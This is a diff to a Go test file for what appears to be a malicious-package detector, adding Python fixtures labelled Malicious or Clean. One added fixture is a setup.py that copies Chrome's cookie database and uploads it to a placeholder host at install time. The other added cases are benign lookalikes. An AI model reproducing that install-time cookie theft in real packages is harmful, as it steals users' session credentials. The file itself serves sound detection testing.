@@ -144,6 +144,16 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"a cache client's function sending the password its environment holds", map[string]string{"p/client.py": "" +
 			"import os, socket\ndef connect():\n    sock = socket.create_connection((os.environ.get('CACHE_HOST', 'localhost'), 6379))\n" +
 			"    sock.sendall(('AUTH %s\\r\\n' % os.environ['CACHE_PASSWORD']).encode())\n    return sock\n"}, "", Clean},
+		{"browser cookies found by a joined path and uploaded from setup.py", map[string]string{"setup.py": "" +
+			"import os, shutil, requests\nfrom setuptools import setup\nsrc = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Network', 'Cookies')\n" +
+			"shutil.copy(src, 'c.db')\nrequests.post('https://collect.example.invalid/u', files={'f': open('c.db', 'rb')})\nsetup(name='p')\n"}, "credential-access", Malicious},
+		{"a tool's own cache found by a joined path beside a download", map[string]string{"p/cache.py": "" +
+			"import os, requests\nCACHE = os.path.join(os.getenv('LOCALAPPDATA', '~'), 'Tool', 'Cache', 'index.json')\n" +
+			"def refresh():\n    with open(CACHE, 'w') as f:\n        f.write(requests.get('https://api.example.invalid/index').text)\n"}, "", Clean},
+		{"a browser automation helper starting Chrome with the user's profile", map[string]string{"p/browser.py": "" +
+			"import os, requests\nfrom selenium import webdriver\ndef driver():\n    opts = webdriver.ChromeOptions()\n" +
+			"    opts.add_argument('--user-data-dir=' + os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data'))\n    return webdriver.Chrome(options=opts)\n" +
+			"def status():\n    return requests.get('https://api.example.invalid/status').json()\n"}, "", Clean},
 		{"a CLI command telling the local IDE which link to open", map[string]string{"p/custom.py": "" +
 			"import os, requests\ndef browse(url):\n    term_id = os.environ.get('ACC_TERM_ID')\n    if term_id:\n" +
 			"        requests.post('http://localhost:8888/openLink/{0}'.format(term_id), json={'url': url})\n"}, "", Clean},
